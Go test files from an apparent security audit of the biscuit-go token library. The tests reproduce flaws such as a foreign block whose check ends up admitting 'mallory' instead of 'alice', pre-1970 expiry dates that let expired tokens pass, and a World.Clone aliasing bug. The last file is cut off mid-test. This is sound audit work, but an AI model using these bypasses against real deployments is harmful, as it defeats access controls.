	sbs := append([]*pb.SignedBlock{c.Authority}, c.Blocks...)
	out := make([]wireBlock, 0, len(sbs))
	for _, sb := range sbs {
		blk := new(pb.Block)
		if err := proto.Unmarshal(sb.Block, blk); err != nil {
			t.Fatalf("independent reader: %v", err)
		}
		table = append(table, blk.Symbols...)
		wb := wireBlock{context: blk.GetContext(), version: blk.GetVersion()}
		sym := func(i uint64) string {
			if i < 1024 {
				if i < uint64(len(datalog.DEFAULT_SYMBOLS)) {
					return datalog.DEFAULT_SYMBOLS[i]
				}
			} else if i-1024 < uint64(len(table)) {
				return table[i-1024]
			}
			wb.unresolved = true
			return fmt.Sprintf("<unresolved %d>", i)
		}
		var term func(x *pb.TermV2) string
		term = func(x *pb.TermV2) string {
			switch v := x.Content.(type) {
			case *pb.TermV2_Variable:
				return "$" + sym(uint64(v.Variable))
			case *pb.TermV2_Integer:
				return fmt.Sprintf("%d", v.Integer)
			case *pb.TermV2_String_:
				return fmt.Sprintf("%q", sym(v.String_))
			case *pb.TermV2_Date:
				// the schema says: uint64 seconds since the epoch
				return fmt.Sprintf("date(%d)", v.Date)
			case *pb.TermV2_Bytes:
				return fmt.Sprintf("hex:%x", v.Bytes)
			case *pb.TermV2_Bool:
				return fmt.Sprintf("%t", v.Bool)
			case *pb.TermV2_Set:
				var e []string
				for _, y := range v.Set.Set {
					e = append(e, term(y))
				}
				return "[" + strings.Join(e, ", ") + "]"
			}
			return "<?>"
		}
		pred := func(p *pb.PredicateV2) string {
			var e []string
			for _, y := range p.Terms {
				e = append(e, term(y))
			}
			return sym(p.GetName()) + "(" + strings.Join(e, ", ") + ")"
		}
		rule := func(r *pb.RuleV2, head bool) string {
			var e []string
			for _, p := range r.Body {
				e = append(e, pred(p))
			}
			for _, x := range r.Expressions {
				var ops []string
				for _, op := range x.Ops {
					switch v := op.Content.(type) {
					case *pb.Op_Value:
						ops = append(ops, term(v.Value))
					case *pb.Op_Unary:
						ops = append(ops, v.Unary.GetKind().String())
					case *pb.Op_Binary:
						ops = append(ops, v.Binary.GetKind().String())
					}
				}
				e = append(e, "{"+strings.Join(ops, " ")+"}")
			}
			s := strings.Join(e, ", ")
			if head {
				s = pred(r.Head) + " <- " + s
			}
			return s
		}
		for _, f := range blk.FactsV2 {
			wb.facts = append(wb.facts, pred(f.Predicate))
		}
		for _, r := range blk.RulesV2 {
			wb.rules = append(wb.rules, rule(r, true))
		}
		for _, ch := range blk.ChecksV2 {
			var q []string
			for _, r := range ch.Queries {
				q = append(q, rule(r, false))
			}
			wb.checks = append(wb.checks, "check if "+strings.Join(q, " or "))
		}
		out = append(out, wb)
	}
	return out
}

func auditKeys(t *testing.T) (ed25519.PublicKey, ed25519.PrivateKey) {
	t.Helper()
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	return pub, priv
}

func auditAuthorize(t *testing.T, b *Biscuit, pub ed25519.PublicKey, facts ...Fact) error {
	t.Helper()
	a, err := b.Authorizer(pub, WithWorldOptions(datalog.WithMaxDuration(30*time.Second)))
	if err != nil {
		return fmt.Errorf("signature: %w", err)
	}
	for _, f := range facts {
		a.AddFact(f)
	}
	a.AddPolicy(DefaultAllowPolicy)
	return a.Authorize()
}

// ---------------------------------------------------------------------------
// F1: a block built from one member of a token family is accepted by Append on a sibling whose symbol
// table merely has the same length; its symbol indexes are silently given other meanings.
// ---------------------------------------------------------------------------
func TestC07_F1_SiblingBlockReinterpreted(t *testing.T) {
	pub, priv := auditKeys(t)

	bld := NewBuilder(priv)
	if err := bld.AddAuthorityFact(Fact{Predicate{Name: "right", IDs: []Term{String("file1")}}}); err != nil {
		t.Fatal(err)
	}
	root, err := bld.Build()
	if err != nil {
		t.Fatal(err)
	}

	// two independent attenuations of the same token
	mk := func(s string) *Biscuit {
		bb := root.CreateBlock()
		if err := bb.AddFact(Fact{Predicate{Name: "tag", IDs: []Term{String(s)}}}); err != nil {
			t.Fatal(err)
		}
		tok, err := root.Append(rand.Reader, bb.Build())
		if err != nil {
			t.Fatal(err)
		}
		return tok
	}
	tokA := mk("alice")   // symbols: [file1 tag alice]
	tokB := mk("mallory") // symbols: [file1 tag mallory]

	// the caller prepares a restriction on top of tokA ...
	bb := tokA.CreateBlock()
	supplied := Check{Queries: []Rule{{
		Head: Predicate{Name: "q"}, // ignored for checks
		Body: []Predicate{{Name: "user", IDs: []Term{String("alice")}}},
	}}}
	if err := bb.AddCheck(supplied); err != nil {
		t.Fatal(err)
	}
	blk := bb.Build()

	// ... and appends it to the sibling tokB
	out, err := tokB.Append(rand.Reader, blk)
	if err != nil {
		t.Logf("Append refused the foreign block: %v (no violation)", err)
		return
	}
	ser, err := out.Serialize()
	if err != nil {
		t.Fatal(err)
	}
	wire := wireDecode(t, ser)
	got := wire[len(wire)-1].checks
	want := `check if user("alice")`
	if len(got) != 1 || got[0] != want {
		t.Errorf("the caller supplied %q, the signed bytes carry %v", want, got)
	}
	// behaviour: the request of user alice is refused, the one of user mallory accepted
	errAlice := auditAuthorize(t, out, pub, Fact{Predicate{Name: "user", IDs: []Term{String("alice")}}})
	errMallory := auditAuthorize(t, out, pub, Fact{Predicate{Name: "user", IDs: []Term{String("mallory")}}})
	if errAlice != nil || errMallory == nil {
		t.Errorf("check if user(\"alice\"): alice -> %v, mallory -> %v", errAlice, errMallory)
	}
}

// ---------------------------------------------------------------------------
// F2: a date before 1970 (e.g. the zero time.Time) wraps around to a date in the far future
// ---------------------------------------------------------------------------
func TestC07_F2_DateBeforeEpoch(t *testing.T) {
	pub, priv := auditKeys(t)
	for _, d := range []time.Time{{}, time.Date(1969, 12, 31, 23, 59, 59, 0, time.UTC)} {
		bld := NewBuilder(priv)
		// "expired on d"
		if err := bld.AddAuthorityCheck(Check{Queries: []Rule{{
			Head: Predicate{Name: "q"},
			Body: []Predicate{{Name: "time", IDs: []Term{Variable("t")}}},
			Expressions: []Expression{{
				Value{Variable("t")}, Value{Date(d)}, BinaryLessOrEqual,
			}},
		}}}); err != nil {
			t.Fatal(err)
		}
		if err := bld.AddAuthorityFact(Fact{Predicate{Name: "expiry", IDs: []Term{Date(d)}}}); err != nil {
			t.Fatal(err)
		}
		tok, err := bld.Build()
		if err != nil {
			t.Logf("Build refused the date %v: %v (no violation)", d, err)
			continue
		}
		ser, err := tok.Serialize()
		if err != nil {
			t.Fatal(err)
		}
		wire := wireDecode(t, ser)
		for _, f := range wire[0].facts {
			var secs uint64
			if _, err := fmt.Sscanf(f, "expiry(date(%d))", &secs); err != nil {
				t.Fatalf("unexpected fact %q", f)
			}
			if secs > 1<<62 {
				t.Errorf("caller supplied expiry(%s); the bytes carry date %d = year %d",
					d.Format(time.RFC3339), secs, 1970+secs/31556952)
			}
		}
		// behaviour: the token that expired before 1970 is accepted today
		now := Fact{Predicate{Name: "time", IDs: []Term{Date(time.Now())}}}
		if err := auditAuthorize(t, tok, pub, now); err == nil {
			t.Errorf("check if time($t), $t <= %s is satisfied at %s", d.Format(time.RFC3339), time.Now().Format(time.RFC3339))
		}
	}
}

// ---------------------------------------------------------------------------
// F3: a builder given a base symbol table (WithSymbols, or New with a non-empty table) emits blocks that
// cannot be resolved from the bytes, and Unmarshal of the token's own bytes fails
// ---------------------------------------------------------------------------
func TestC07_F3_WithSymbolsNotOnTheWire(t *testing.T) {
	_, priv := auditKeys(t)
	base := &datalog.SymbolTable{"alice"}
	bld := NewBuilder(priv, WithSymbols(base))
	if err := bld.AddAuthorityFact(Fact{Predicate{Name: "user", IDs: []Term{String("alice")}}}); err != nil {
		t.Fatal(err)
	}
	if err := bld.AddAuthorityFact(Fact{Predicate{Name: "user", IDs: []Term{String("bob")}}}); err != nil {
		t.Fatal(err)
	}
	tok, err := bld.Build()
	if err != nil {
		t.Fatal(err)
	}
	ser, err := tok.Serialize()
	if err != nil {
		t.Fatal(err)
	}
	wire := wireDecode(t, ser)
	want := []string{`user("alice")`, `user("bob")`}
	if fmt.Sprint(wire[0].facts) != fmt.Sprint(want) {
		t.Errorf("caller supplied %v, an independent reader sees %v (unresolved=%v)", want, wire[0].facts, wire[0].unresolved)
	}
	if _, err := Unmarshal(ser); err != nil {
		t.Errorf("Unmarshal of the library's own bytes: %v", err)
	}
}

// F3b: same through New / NewBlockBuilder with a table that holds exactly as many symbols as the
// block adds: the bytes cannot be resolved and Unmarshal refuses them
func TestC07_F3b_NewWithBaseSymbols(t *testing.T) {
	_, priv := auditKeys(t)
	base := &datalog.SymbolTable{"alice"}
	bb := NewBlockBuilder(base.Clone())
	if err := bb.AddFact(Fact{Predicate{Name: "user", IDs: []Term{String("alice")}}}); err != nil {
		t.Fatal(err)
	}
	if err := bb.AddFact(Fact{Predicate{Name: "blocked", IDs: []Term{String("mallory")}}}); err != nil {
		t.Fatal(err)
	}
	tok, err := New(rand.Reader, priv, base, bb.Build())
	if err != nil {
		t.Fatal(err)
	}
	ser, err := tok.Serialize()
	if err != nil {
		t.Fatal(err)
	}
	wire := wireDecode(t, ser)
	t.Logf("wire: %v unresolved=%v", wire[0].facts, wire[0].unresolved)
	tok2, err := Unmarshal(ser)
	if err != nil {
		t.Logf("Unmarshal: %v", err)
		t.Errorf("Unmarshal of the library's own bytes fails: %v", err)
		return
	}
	if tok.String() != tok2.String() {
		t.Errorf("content changed:\n%s\n%s", tok.String(), tok2.String())
	}
}

// variant of F1: unrelated token with a longer table, block without new symbols
func TestC07_F1b_ForeignBlockNoNewSymbols(t *testing.T) {
	_, priv := auditKeys(t)
	mk := func(names ...string) *Biscuit {
		bld := NewBuilder(priv)
		for _, n := range names {
			if err := bld.AddAuthorityFact(Fact{Predicate{Name: "right", IDs: []Term{String(n)}}}); err != nil {
				t.Fatal(err)
			}
		}
		tok, err := bld.Build()
		if err != nil {
			t.Fatal(err)
		}
		return tok
	}
	tokA := mk("file1")
	tokB := mk("secret", "file1")
	bb := tokA.CreateBlock()
	_ = bb.AddCheck(Check{Queries: []Rule{{Head: Predicate{Name: "query"}, Body: []Predicate{{Name: "resource", IDs: []Term{String("file1")}}}}}})
	out, err := tokB.Append(rand.Reader, bb.Build())
	if err != nil {
		t.Logf("refused: %v", err)
		return
	}
	ser, _ := out.Serialize()
	w := wireDecode(t, ser)
	if got := w[1].checks[0]; got != `check if resource("file1")` {
		t.Errorf("supplied check if resource(\"file1\"), bytes carry %s", got)
	}
}

func TestC07_F5_InvalidUTF8OnTheWire(t *testing.T) {
	_, priv := auditKeys(t)
	bld := NewBuilder(priv)
	bld.SetContext("ctx\xff")
	if err := bld.AddAuthorityFact(Fact{Predicate{Name: "user", IDs: []Term{String("al\xffice")}}}); err != nil {
		t.Fatal(err)
	}
	tok, err := bld.Build()
	if err != nil {
		t.Logf("Build refused: %v", err)
		return
	}
	ser, err := tok.Serialize()
	if err != nil {
		t.Fatal(err)
	}
	c := new(pb.Biscuit)
	if err := proto.Unmarshal(ser, c); err != nil {
		t.Fatal(err)
	}
	blk := new(pb.Block)
	if err := proto.Unmarshal(c.Authority.Block, blk); err != nil {
		t.Fatal(err)
	}
	if !utf8.ValidString(blk.GetContext()) || !utf8.ValidString(blk.Symbols[0]) {
		t.Errorf("string fields on the wire are not UTF-8: %q %q", blk.GetContext(), blk.Symbols)
	}
	tok2, err := Unmarshal(ser)
	if err != nil {
		t.Fatal(err)
	}
	if tok.String() != tok2.String() {
		t.Errorf("differs")
	}
}

func TestC07_F4_BytesAliased(t *testing.T) {
	pub, priv := auditKeys(t)
	buf := []byte{1}
	bld := NewBuilder(priv)
	if err := bld.AddAuthorityFact(Fact{Predicate{Name: "key", IDs: []Term{Bytes(buf)}}}); err != nil {
		t.Fatal(err)
	}
	buf[0] = 2 // the caller reuses its buffer for the next fact
	if err := bld.AddAuthorityFact(Fact{Predicate{Name: "key", IDs: []Term{Bytes(buf)}}}); err != nil {
		t.Errorf("second, different fact refused: %v", err)
	}
	tok, err := bld.Build()
	if err != nil {
		t.Fatal(err)
	}
	ser, _ := tok.Serialize()
	wire := wireDecode(t, ser)
	t.Logf("wire facts: %v", wire[0].facts)
	found := false
	for _, f := range wire[0].facts {
		if f == "key(hex:01)" {
			found = true
		}
	}
	if !found {
		t.Errorf("caller supplied key(hex:01); bytes carry %v", wire[0].facts)
	}
	// after Build
	buf[0] = 9
	tok2, err := Unmarshal(ser)
	if err != nil {
		t.Fatal(err)
	}
	if tok.String() != tok2.String() {
		t.Errorf("token in memory no longer matches its own bytes:\n%s\n%s", tok.String(), tok2.String())
	}
	_ = pub
}
