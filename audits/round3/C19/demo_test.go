// demo_test.go -- audit of property C19 (a token can be shared by concurrent goroutines).
//
// Belongs to the repository ROOT directory (package biscuit_test, next to example_test.go).
// Run with:  go test -race -run 'TestC19' -count=1 .
//
// RESULT OF THE AUDIT: no in-scope violation reproduces on the unchanged tree.  The tests
// TestC19Stress, TestC19Stress2 and TestC19ErrorPathsAndLeaks are the searches that were run; they
// FAIL (t.Errorf, or a race-detector report under -race) exactly when a goroutine sharing the token,
// the parsed values or the parser obtains something else than the sequential result, when a data
// race occurs, or when a library goroutine outlives the calls.  They PASS on the unchanged code.
//
// TestC19OutOfScopeSharedBlockBuilder is an observation OUTSIDE the literal property (it shares a
// mutable BlockBuilder, not a token): it is skipped unless AUDIT_OUT_OF_SCOPE=1 and then fails under
// -race (data race on blockBuilder.symbols, builder.go:316/328).
package biscuit_test

import (
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"fmt"
	"os"
	"runtime"
	"sync"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2"
	"github.com/biscuit-auth/biscuit-go/v2/datalog"
	"github.com/biscuit-auth/biscuit-go/v2/parser"
)

func TestC19Stress(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	p := parser.New()
	params := parser.ParametersMap{"read": biscuit.String("read"), "b": biscuit.Bytes([]byte{1, 2, 3}), "s": biscuit.Set{biscuit.String("x"), biscuit.String("y")}}

	authority, err := p.Block(`
		right("/a/file1.txt", {read});
		right("/a/file2.txt", "write");
		bytes({b});
		set({s});
		name("abc");
		derived($x) <- right($x, "read");
		joined($y) <- name($y), $y + "def" == "abcdef";
		check if right($f, "read"), $f.matches("^/a/.*");
	`, params)
	if err != nil {
		t.Fatal(err)
	}
	builder := biscuit.NewBuilder(priv)
	if err := builder.AddBlock(authority); err != nil {
		t.Fatal(err)
	}
	b0, err := builder.Build()
	if err != nil {
		t.Fatal(err)
	}
	bb := b0.CreateBlock()
	blk, err := p.Block(`
		other("thing", hex:aabb);
		other2($x) <- other($x, $y);
		check if resource($r), $r.starts_with("/a/"), "x" + "y" == "xy";
	`, nil)
	if err != nil {
		t.Fatal(err)
	}
	bb.AddBlock(blk)
	b1, err := b0.Append(rand.Reader, bb.Build())
	if err != nil {
		t.Fatal(err)
	}
	ser, err := b1.Serialize()
	if err != nil {
		t.Fatal(err)
	}

	for _, mode := range []string{"built", "unmarshaled"} {
		tok := b1
		if mode == "unmarshaled" {
			tok, err = biscuit.Unmarshal(ser)
			if err != nil {
				t.Fatal(err)
			}
		}
		auth, err := p.Authorizer(`
			resource("/a/file1.txt");
			operation("read");
			concat($r) <- resource($r), operation($o), $r + $o == "/a/file1.txtread";
			allow if right("/a/file1.txt", "read");
		`, nil)
		if err != nil {
			t.Fatal(err)
		}
		q, err := p.Rule(`q($x) <- joined($x)`, nil)
		if err != nil {
			t.Fatal(err)
		}
		lookup, _ := p.Fact(`right("/a/file2.txt", "write")`, nil)
		lookup2, _ := p.Fact(`other("thing", hex:aabb)`, nil)
		newblk, _ := p.Block(`fresh("sym1", "sym2"); check if fresh($a, $b), $a + $b == "sym1sym2";`, nil)

		one := func() string {
			var out bytes.Buffer
			a, err := tok.AuthorizerFor(biscuit.WithSingularRootPublicKey(pub), biscuit.WithWorldOptions(datalog.WithMaxDuration(30*time.Second)))
			if err != nil {
				return "authorizer: " + err.Error()
			}
			a.AddAuthorizer(auth)
			fmt.Fprintf(&out, "auth=%v\n", a.Authorize())
			fs, err := a.Query(q)
			fmt.Fprintf(&out, "q=%v %v\n", fs, err)
			fmt.Fprintf(&out, "world=%s\n", a.PrintWorld())
			fmt.Fprintf(&out, "str=%s\n", tok.String())
			fmt.Fprintf(&out, "code=%v\n", tok.Code())
			i1, e1 := tok.GetBlockID(lookup)
			i2, e2 := tok.GetBlockID(lookup2)
			fmt.Fprintf(&out, "ids=%d %v %d %v\n", i1, e1, i2, e2)
			nb := tok.CreateBlock()
			if err := nb.AddBlock(newblk); err != nil {
				return err.Error()
			}
			t2, err := tok.Append(rand.Reader, nb.Build())
			if err != nil {
				return "append: " + err.Error()
			}
			fmt.Fprintf(&out, "t2=%s\n", t2.String())
			a2, err := t2.Authorizer(pub, biscuit.WithWorldOptions(datalog.WithMaxDuration(30*time.Second)))
			if err != nil {
				return "authorizer2: " + err.Error()
			}
			a2.AddAuthorizer(auth)
			fmt.Fprintf(&out, "auth2=%v\n", a2.Authorize())
			s, err := tok.Seal(rand.Reader)
			if err != nil {
				return "seal: " + err.Error()
			}
			a3, err := s.Authorizer(pub, biscuit.WithWorldOptions(datalog.WithMaxDuration(30*time.Second)))
			if err != nil {
				return "authorizer3: " + err.Error()
			}
			a3.AddAuthorizer(auth)
			fmt.Fprintf(&out, "auth3=%v\n", a3.Authorize())
			sb, err := tok.Serialize()
			fmt.Fprintf(&out, "ser=%x %v\n", sb, err)
			fmt.Fprintf(&out, "rev=%x cnt=%d ctx=%q checks=%v\n", tok.RevocationIds(), tok.BlockCount(), tok.GetContext(), tok.Checks())
			// shared parser
			f, err := p.Fact(`foo({read}, {b}, {s})`, params)
			fmt.Fprintf(&out, "f=%v %v\n", f, err)
			au, err := p.Authorizer(`allow if a($x), $x.contains({read}); deny if true;`, params)
			fmt.Fprintf(&out, "au=%v %v\n", au, err)
			return out.String()
		}
		want := one()
		var wg sync.WaitGroup
		for g := 0; g < 8; g++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for i := 0; i < 20; i++ {
					if got := one(); got != want {
						t.Errorf("%s: mismatch\n got: %s\nwant: %s", mode, got, want)
						return
					}
				}
			}()
		}
		wg.Wait()
	}
}

func TestC19Stress2(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	p := parser.New()
	long := biscuit.WithWorldOptions(datalog.WithMaxDuration(60*time.Second), datalog.WithMaxFacts(100000), datalog.WithMaxIterations(1000))

	builder := biscuit.NewBuilder(priv, biscuit.WithRootKeyID(7))
	builder.AddBlock(p.Must().Block(`
		n(0); n(1); n(2); n(3); s("a");
		pair($a, $b) <- n($a), n($b), $a < $b;
		s2($x) <- s($x), $x + "b" + "c" == "abc";
		check if n(1);
	`, nil))
	_ = builder
	b0, err := builder.Build()
	if err != nil {
		t.Fatal(err)
	}
	toks := []*biscuit.Biscuit{b0}
	cur := b0
	for i := 0; i < 3; i++ {
		bb := cur.CreateBlock()
		bb.AddBlock(p.Must().Block(fmt.Sprintf(`blk%d("v%d", %d); d%d($x) <- blk%d($x, $y), $x + "z" == "v%dz"; check if n(%d);`, i, i, i, i, i, i, i), nil))
		bb.SetContext(fmt.Sprintf("ctx%d", i))
		cur, err = cur.Append(rand.Reader, bb.Build())
		if err != nil {
			t.Fatal(err)
		}
		toks = append(toks, cur)
	}
	sealed, err := cur.Seal(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	toks = append(toks, sealed)
	ser, _ := cur.Serialize()
	um, err := biscuit.Unmarshal(ser)
	if err != nil {
		t.Fatal(err)
	}
	toks = append(toks, um)
	sser, _ := sealed.Serialize()
	um2, err := biscuit.Unmarshal(sser)
	if err != nil {
		t.Fatal(err)
	}
	toks = append(toks, um2)

	auth := p.Must().Authorizer(`time(2020-01-01T00:00:00Z); allow if n(3), s2("a"); deny if true;`, nil)
	q := p.Must().Rule(`r($x) <- n($x), $x > 2`, nil)
	keys := biscuit.WithRootPublicKeys(map[uint32]ed25519.PublicKey{7: pub}, nil)

	type op func(tok *biscuit.Biscuit) string
	ops := []op{
		func(tok *biscuit.Biscuit) string {
			a, err := tok.AuthorizerFor(keys, long)
			if err != nil {
				return err.Error()
			}
			a.AddAuthorizer(auth)
			e := a.Authorize()
			f, e2 := a.Query(q)
			return fmt.Sprint(e, f, e2, a.PrintWorld())
		},
		func(tok *biscuit.Biscuit) string {
			a, err := tok.AuthorizerFor(keys, long)
			if err != nil {
				return err.Error()
			}
			a.AddAuthorizer(auth)
			pol, err := a.SerializePolicies()
			if err != nil {
				return err.Error()
			}
			a2, _ := tok.AuthorizerFor(keys, long)
			if err := a2.LoadPolicies(pol); err != nil {
				return err.Error()
			}
			return fmt.Sprint(a2.Authorize(), a2.PrintWorld())
		},
		func(tok *biscuit.Biscuit) string { return tok.String() + fmt.Sprint(tok.Code()) },
		func(tok *biscuit.Biscuit) string {
			s := ""
			for _, f := range []string{`n(0)`, `blk1("v1", 1)`, `blk2("v2", 2)`, `nope("zzz")`, `s("a")`} {
				id, err := tok.GetBlockID(p.Must().Fact(f, nil))
				s += fmt.Sprint(id, err, ";")
			}
			return s
		},
		func(tok *biscuit.Biscuit) string {
			bb := tok.CreateBlock()
			bb.AddBlock(p.Must().Block(`extra("new1", "new2"); check if extra($a, $b), $a + $b == "new1new2";`, nil))
			blk := bb.Build()
			t2, err := tok.Append(rand.Reader, blk)
			if err != nil {
				return "append:" + err.Error()
			}
			a, err := t2.AuthorizerFor(keys, long)
			if err != nil {
				return err.Error()
			}
			a.AddAuthorizer(auth)
			return fmt.Sprint(t2.String(), a.Authorize())
		},
		func(tok *biscuit.Biscuit) string {
			s, err := tok.Seal(rand.Reader)
			if err != nil {
				return "seal:" + err.Error()
			}
			a, err := s.AuthorizerFor(keys, long)
			if err != nil {
				return err.Error()
			}
			a.AddAuthorizer(auth)
			return fmt.Sprint(s.String(), a.Authorize())
		},
		func(tok *biscuit.Biscuit) string {
			b, err := tok.Serialize()
			if err != nil {
				return err.Error()
			}
			u, err := biscuit.Unmarshal(b)
			if err != nil {
				return err.Error()
			}
			return fmt.Sprintf("%x %s %v %v %d %x %v", b, u.String(), tok.GetContext(), *tok.RootKeyID(), tok.BlockCount(), tok.RevocationIds(), tok.Checks())
		},
	}
	runtime.GOMAXPROCS(8)
	for ti, tok := range toks {
		want := make([]string, len(ops))
		for i, o := range ops {
			want[i] = o(tok)
		}
		var wg sync.WaitGroup
		for g := 0; g < 14; g++ {
			wg.Add(1)
			go func(g int) {
				defer wg.Done()
				for i := 0; i < 6; i++ {
					k := (g + i) % len(ops)
					if got := ops[k](tok); got != want[k] {
						t.Errorf("tok %d op %d mismatch\n got: %.600s\nwant: %.600s", ti, k, got, want[k])
					}
				}
			}(g)
		}
		wg.Wait()
		if ti == 3 {
			t.Log(want[0])
			t.Log(want[1])
			t.Log(want[3])
		}
	}
}

func TestC19ErrorPathsAndLeaks(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	p := parser.New()
	b := biscuit.NewBuilder(priv)
	b.AddBlock(p.Must().Block(`n(0); n(1); n(2); n(3); n(4); s("a"); check if n($x), $x / 0 == 1 or n($x), $x.matches("a") or n(2);`, nil))
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	bb := tok.CreateBlock()
	bb.AddBlock(p.Must().Block(`bad($z) <- n($x); check if s($q), $q + 1 == 2;`, nil))
	tok2, err := tok.Append(rand.Reader, bb.Build())
	if err != nil {
		t.Fatal(err)
	}
	auths := []biscuit.ParsedAuthorizer{
		p.Must().Authorizer(`allow if n($x), $x / 0 == 1; allow if true;`, nil),
		p.Must().Authorizer(`big($a,$b,$c) <- n($a), n($b), n($c); allow if true;`, nil),
		p.Must().Authorizer(`h($z) <- n($x); allow if true;`, nil),
		p.Must().Authorizer(`h($x) <- n($x), $x / 0 == 1; allow if true;`, nil),
	}
	before := runtime.NumGoroutine()
	var wg sync.WaitGroup
	res := make([][]string, 8)
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 10; i++ {
				for _, tk := range []*biscuit.Biscuit{tok, tok2} {
					for _, au := range auths {
						a, err := tk.Authorizer(pub, biscuit.WithWorldOptions(datalog.WithMaxDuration(time.Minute), datalog.WithMaxFacts(50)))
						if err != nil {
							t.Error(err)
							return
						}
						a.AddAuthorizer(au)
						e := a.Authorize()
						s := "<nil>"
						if e != nil {
							s = e.Error()
						}
						if i == 0 {
							res[g] = append(res[g], s)
						}
					}
				}
			}
		}(g)
	}
	wg.Wait()
	for g := 1; g < 8; g++ {
		for k := range res[0] {
			if res[g][k] != res[0][k] {
				t.Errorf("g%d k%d: %s vs %s", g, k, res[g][k], res[0][k])
			}
		}
	}
	time.Sleep(200 * time.Millisecond)
	after := runtime.NumGoroutine()
	if after > before {
		t.Errorf("goroutines leaked: before %d after %d", before, after)
	}
}

func TestC19OutOfScopeSharedBlockBuilder(t *testing.T) {
	if os.Getenv("AUDIT_OUT_OF_SCOPE") == "" {
		t.Skip("outside the literal property: shares a BlockBuilder, not a token")
	}
	_, priv, _ := ed25519.GenerateKey(rand.Reader)
	p := parser.New()
	b := biscuit.NewBuilder(priv)
	b.AddBlock(p.Must().Block(`a("x"); b($y) <- a($y);`, nil))
	tok, _ := b.Build()
	bb := tok.CreateBlock()
	bb.AddBlock(p.Must().Block(`c("z");`, nil))
	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 50; i++ {
				if _, err := tok.Append(rand.Reader, bb.Build()); err != nil {
					t.Error(err)
				}
			}
		}()
	}
	wg.Wait()
}
