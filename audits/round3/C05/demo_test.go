// C05 audit, round 3 - reproducing tests.
//
// Package directory: the repository root (package biscuit). Copy this file to <repo>/demo_c05_test.go and run
//
//	GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go test -run TestC05 -count=1 .
//
// Only exported API of the datalog package is used. Every test FAILS on the unchanged library.
// Finding 1: TestC05CloneAliasing*   Finding 2: TestC05NonGroundFact*   Finding 3 (near scope): TestC05WorldQueryUncomparable
package biscuit

import (
	"crypto/ed25519"
	"crypto/rand"
	"sync"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2/datalog"
)

func c05Has(fs *datalog.FactSet, f datalog.Fact) bool {
	for _, g := range *fs {
		if g.Predicate.Equal(f.Predicate) {
			return true
		}
	}
	return false
}

func c05Fact(name datalog.String, terms ...datalog.Term) datalog.Fact {
	return datalog.Fact{Predicate: datalog.Predicate{Name: name, Terms: terms}}
}

// ---------------------------------------------------------------------------------------------------
// Finding 1: World.Clone shares the backing array of the fact slice (datalog/datalog.go:469-477).
// A fact added to - or derived by Run in - one of the two worlds is written into the spare capacity
// that the other world also believes to be its own, and replaces the fact the other world put there.
// ---------------------------------------------------------------------------------------------------

// facts given to a world are replaced by a fact given to its clone
func TestC05CloneAliasingAddFact(t *testing.T) {
	syms := &datalog.SymbolTable{}
	p, a, b := syms.Insert("p"), syms.Insert("a"), syms.Insert("b")

	w := datalog.NewWorld(datalog.WithMaxDuration(10 * time.Second))
	for i := 0; i < 3; i++ { // 3 facts: len 3, cap 4
		w.AddFact(c05Fact(p, datalog.Integer(i)))
	}
	c := w.Clone()
	fa, fb := c05Fact(a, datalog.Integer(1)), c05Fact(b, datalog.Integer(2))
	w.AddFact(fa)
	c.AddFact(fb)

	if err := w.Run(syms); err != nil {
		t.Fatal(err)
	}
	if !c05Has(w.Facts(), fa) {
		t.Errorf("a(1), a fact of the program, is missing after Run == nil: %v", *w.Facts())
	}
	if c05Has(w.Facts(), fb) {
		t.Errorf("b(2), neither given to this world nor derivable in it, is present after Run == nil: %v", *w.Facts())
	}
}

// a fact derived by Run in one world is replaced by the fact derived by Run in the other
func TestC05CloneAliasingRun(t *testing.T) {
	syms := &datalog.SymbolTable{}
	p, q, r := syms.Insert("p"), syms.Insert("q"), syms.Insert("r")

	w := datalog.NewWorld(datalog.WithMaxDuration(10 * time.Second))
	for i := 0; i < 3; i++ {
		w.AddFact(c05Fact(p, datalog.Integer(i)))
	}
	c := w.Clone()
	body := []datalog.Predicate{{Name: p, Terms: []datalog.Term{datalog.Integer(0)}}}
	w.AddRule(datalog.Rule{Head: datalog.Predicate{Name: q, Terms: []datalog.Term{datalog.Integer(7)}}, Body: body}) // q(7) <- p(0)
	c.AddRule(datalog.Rule{Head: datalog.Predicate{Name: r, Terms: []datalog.Term{datalog.Integer(9)}}, Body: body}) // r(9) <- p(0)

	if err := w.Run(syms); err != nil {
		t.Fatal(err)
	}
	if err := c.Run(syms); err != nil {
		t.Fatal(err)
	}
	if !c05Has(w.Facts(), c05Fact(q, datalog.Integer(7))) {
		t.Errorf("q(7) is derivable in w but missing: %v", *w.Facts())
	}
	if c05Has(w.Facts(), c05Fact(r, datalog.Integer(9))) {
		t.Errorf("r(9) is in w, which has no rule deriving it: %v", *w.Facts())
	}
	x := datalog.Variable(0)
	res := w.QueryRule(datalog.Rule{
		Head: datalog.Predicate{Name: q, Terms: []datalog.Term{x}},
		Body: []datalog.Predicate{{Name: q, Terms: []datalog.Term{x}}},
	}, syms)
	if len(*res) != 1 {
		t.Errorf("QueryRule q($x) <- q($x) on w: got %v, want [q(7)]", *res)
	}
}

// the natural use of Clone: one base world, one clone per request, each evaluated on its own goroutine
// with its own symbol table. (Also reported by go test -race as a data race in FactSet.Insert.)
func TestC05CloneAliasingConcurrent(t *testing.T) {
	base := datalog.NewWorld(datalog.WithMaxDuration(10 * time.Second))
	p, q := datalog.String(1024), datalog.String(1025)
	for i := 0; i < 3; i++ {
		base.AddFact(c05Fact(p, datalog.Integer(i)))
	}
	var wg sync.WaitGroup
	bad := make([]bool, 8)
